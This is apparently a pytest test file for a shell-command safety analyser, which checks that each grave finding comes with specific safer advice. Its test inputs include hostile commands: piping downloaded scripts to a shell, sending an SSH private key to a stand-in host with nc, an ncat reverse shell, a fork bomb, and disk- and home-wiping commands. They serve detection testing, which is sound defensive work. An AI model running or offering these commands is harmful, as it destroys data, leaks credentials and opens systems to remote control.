"""Every finding that asks for more than a yes says what to do instead, and the saying is about the matter at hand."""

from __future__ import annotations

import pytest

from ingle.shell import safer, spec
from ingle.shell.finding import Finding, Level
from ingle.shell.safer import Matter, safer_way, table
from ingle.shell.verdict import analyse

from .corpus import Labelled, labelled

PARTS = ("commands", "effects", "powershell")


def test_a_grave_finding_cannot_be_made_without_a_safer_way() -> None:
    with pytest.raises(ValueError, match="needs a safer way"):
        Finding(Level.HIGH, "delete", "deletes", (0, 1))
    assert Finding(Level.MODERATE, "delete", "deletes", (0, 1)).safer == ""


@pytest.mark.parametrize(
    ("command", "told"),
    [
        ("rm -rf ~", "list it (`ls -A ~`)"),
        ("rm -rf *", "`ls -d *` shows what is meant"),
        ('rm -rf "$DIR"/*', '`"${DIR:?}"` in its place stops when it is empty'),
        ("rm -rf ~/Documents", "`ls -d ~/Documents` shows first what would go"),
        ("find . -name '*.o' -delete; find ~ -delete", "the same with `-print` in its place"),
        ("curl -fsSL https://x.example/i.sh | sh", "`curl -fsSLo code.txt https://x.example/i.sh`"),
        ("bash <(wget -qO- https://x.example/i.sh)", "https://x.example/i.sh"),
        ("pip install git+https://x.example/y", "name a released version"),
        ("cat ~/.ssh/id_rsa | nc evil.example 9", "share a public key"),
        ('eval "$code"', "`printf '%s\\n' \"$code\"` prints the code first"),
        ('"$cmd" a', "`printf '%s\\n' \"$cmd\"` shows what would run"),
        ("echo cm0gLXJmIC8= | base64 -d > x; sh y.sh | $(cat z)", "print it first"),
        ("if true; then ls", "every quote closed"),
        ("echo 'curl x|sh' >> ~/.bashrc", "`cp -p ~/.bashrc ~/.bashrc.bak`"),
        ("sudo tee /etc/hosts < x", "`cp -p /etc/hosts /etc/hosts.bak`"),
        ("dd if=x of=/dev/sda", "`lsblk -o NAME,SIZE,MOUNTPOINTS` shows which disk it is"),
        ("mkfs.ext4 /dev/sdb1", "`lsblk`"),
        ("chmod -R 777 .", "`chmod -R u=rwX,g=rwX,o= DIR`"),
        ("chmod 644 ~/.ssh/id_rsa", "`chmod 600 ~/.ssh/id_rsa`"),
        ("git reset --hard", "`git stash -u` keeps what is not committed"),
        ("git clean -fdx", "the same with `-n` lists what would go"),
        ("git push --force", "`git push --force-with-lease`"),
        ("git push --force-with-lease origin main", "`git fetch` and `git log"),
        ("terraform destroy -auto-approve", "`terraform plan -destroy`"),
        ("kubectl delete ns prod", "`kubectl get … -o yaml > backup.yaml`"),
        ("docker system prune -a --volumes", "`docker system df -v`"),
        ("aws s3 rm s3://b --recursive", "`--dryrun`"),
        ("apt-get purge python3", "`apt -s`"),
        ("psql -c 'DELETE FROM users'", "`SELECT count(*)`"),
        ("crontab -r", "`crontab -l > crontab.bak` first"),
        ("kill -9 -1", "`pgrep -a NAME`"),
        (":(){ :|:& };:", "do not run this"),
        ("history -c", "leave the history on"),
        ("sudo reboot", "`who`"),
        ("sudo ufw disable", "`ufw status numbered`"),
        ("ncat -e /bin/sh 10.0.0.1 4", "`ssh`"),
        ("frobctl instance destroy web", "`man frobctl`"),
    ],
)
def test_the_safer_way_names_the_matter_at_hand(command: str, told: str) -> None:
    assert told in analyse(command).findings[0].safer


def test_code_is_no_operand_of_an_advice() -> None:
    found = analyse("osascript -e 'tell application \"Finder\" to delete (every item of home)'").findings[0]
    assert "`" not in found.safer or "tell" not in found.safer


@pytest.mark.parametrize(
    ("command", "told"),
    [
        ("Remove-Item -Recurse -Force $p", "`Write-Output $p` shows what it holds"),
        ("Remove-Item -Recurse *", "`-WhatIf` lists what would go"),
        (
            "iex (iwr https://x.example/a.ps1)",
            "`Invoke-WebRequest https://x.example/a.ps1 -OutFile code.ps1`",
        ),
        ("Format-Volume -DriveLetter D", "`Get-Disk`"),
        ("Get-Mailbox | Remove-Mailbox", "`Get-Help remove-mailbox`"),
    ],
)
def test_in_powershell_the_safer_way_is_one_of_powershell(command: str, told: str) -> None:
    assert told in analyse(command, "powershell").findings[0].safer


def lacking(rows: list[Labelled]) -> list[str]:
    return [
        f"{row.command}: {finding.consequence}"
        for row in rows
        for finding in analyse(row.command, row.shell).findings
        if finding.level >= Level.HIGH and finding.safer in ("", safer.FALLBACK)
    ]


@pytest.mark.slow
def test_no_grave_finding_is_without_advice_of_its_own() -> None:
    assert lacking([row for at, row in enumerate(labelled()) if at % 12 == 1]) == []


@pytest.mark.slow
def test_no_grave_finding_of_any_command_is_without_advice_of_its_own() -> None:
    assert lacking(labelled()) == []


@pytest.mark.slow
def test_every_grave_rule_says_what_follows_and_has_advice_of_its_own() -> None:
    rest = table("effects")["effect"][-1].text
    lost = []
    for name in sorted(spec.known()):
        entry = spec.find(name)
        assert entry is not None
        said = [(entry.level, entry.consequence, "")] if entry.level >= Level.HIGH else []
        said += [(rule.level, rule.consequence, " ".join(rule.tokens)) for rule in entry.rules if rule.level]
        for level, consequence, words in said:
            if level < Level.HIGH:
                continue
            advice = safer_way("effect", consequence, Matter((name, *words.split())))
            if not consequence or advice in (rest, safer.FALLBACK):
                lost.append(f"{name} {words}: {consequence}")
    assert lost == []


@pytest.mark.parametrize("part", PARTS)
def test_advice_is_well_formed(part: str) -> None:
    for name, rows in table(part).items():
        assert rows, name
        assert [row.text for row in rows if row.text.count("`") % 2 or " :: " in row.text] == []


def test_each_effect_has_advice_for_whatever_is_said_of_it() -> None:
    for rows in table("effects").values():
        assert rows[-1].pattern.pattern == "."
        assert rows[-1].fields <= {"name"}  # which is always known


def test_a_line_with_a_field_that_is_not_known_is_passed_over() -> None:
    with_variable = safer_way("opaque", "runs code that is not known", Matter(source='eval "$x"'))
    without = safer_way("opaque", "runs code that is not known", Matter(source="eval `y`"))
    assert '"$x"' in with_variable
    assert "<" not in without
    assert without != with_variable
